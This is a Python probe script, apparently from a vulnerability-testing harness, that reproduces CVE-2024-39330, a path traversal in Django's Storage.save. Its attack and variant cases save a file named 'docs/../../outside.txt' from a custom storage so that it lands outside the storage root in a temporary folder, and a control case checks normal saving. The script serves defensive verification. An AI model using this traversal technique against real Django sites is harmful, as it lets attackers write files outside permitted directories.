# /// vertice-probe
# id = "PYSEC-2024-58"
# aliases = ["CVE-2024-39330"]
# package = "django"
# summary = """\
#   Storage.save does not check the name itself, so a storage class with its own methods for names writes outside \
#   its folder."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:L/I:N/A:N" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = ["django.core.files.storage.Storage", "django.core.files.storage.Storage.save"]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "5.0" },
#   { fixed = "5.0.7" },
#   { introduced = "4.2" },
#   { fixed = "4.2.14" },
# ] }]
#
# [cases]
# attack = "a storage with its own naming methods saves ../../outside.txt outside the root"
# [cases.variants]
# renamed = "the naming method itself gives such a name"
# [cases.controls]
# save = "a storage with its own naming saves in its folder"
#
# [test]
# vulnerable = "5.0.6"
# fixed = "5.0.7"
# ///
"""CVE-2024-39330: path traversal in storages with their own naming."""

import json
import os
import sys
import tempfile


BASE = os.path.realpath(tempfile.mkdtemp())
ROOT = os.path.join(BASE, "root")
OUTSIDE = os.path.join(BASE, "outside.txt")


def storage(**methods):
    """A site's own storage, which writes where the name says below its root, as stores without folders do."""
    import django
    from django.conf import settings

    settings.configure(SECRET_KEY="probe")
    django.setup()
    from django.core.files.storage import Storage

    class Plain(Storage):
        def _save(self, name, content):
            path = os.path.join(ROOT, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as stream:
                stream.write(content.read())
            return name

        def exists(self, name):
            return os.path.exists(os.path.join(ROOT, name))

    os.makedirs(os.path.join(ROOT, "docs"))
    return type("Site", (Plain,), methods)()


def judge(save):
    """Run save(); did a file land outside the root?"""
    from django.core.exceptions import SuspiciousFileOperation

    refusal = None
    try:
        save()
    except SuspiciousFileOperation as error:
        refusal = str(error)
    if os.path.exists(OUTSIDE):
        return "exploited", "a file was written outside the root of the storage"
    if refusal:
        return "blocked", "SuspiciousFileOperation: %s" % refusal.replace(BASE, "BASE")
    raise RuntimeError("neither written outside nor refused")


def attack():
    # replaces both methods that look at the name in the base class
    store = storage(
        generate_filename=lambda self, filename: filename,
        get_available_name=lambda self, name, max_length=None: name,
    )
    from django.core.files.base import ContentFile

    return judge(lambda: store.save(store.generate_filename("docs/../../outside.txt"), ContentFile(b"x")))


def renamed():
    store = storage(get_available_name=lambda self, name, max_length=None: "docs/../../" + name)
    from django.core.files.base import ContentFile

    return judge(lambda: store.save("outside.txt", ContentFile(b"x")))


def save():
    store = storage(
        generate_filename=lambda self, filename: "docs/" + filename,
        get_available_name=lambda self, name, max_length=None: name + ".v1",
    )
    from django.core.files.base import ContentFile

    name = store.save(store.generate_filename("a.txt"), ContentFile(b"1"))
    there = os.listdir(os.path.join(ROOT, "docs"))
    return ("works" if (name, there) == ("docs/a.txt.v1", ["a.txt.v1"]) else "broken"), repr((name, there))


CASES = {"attack": attack, "renamed": renamed, "save": save}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
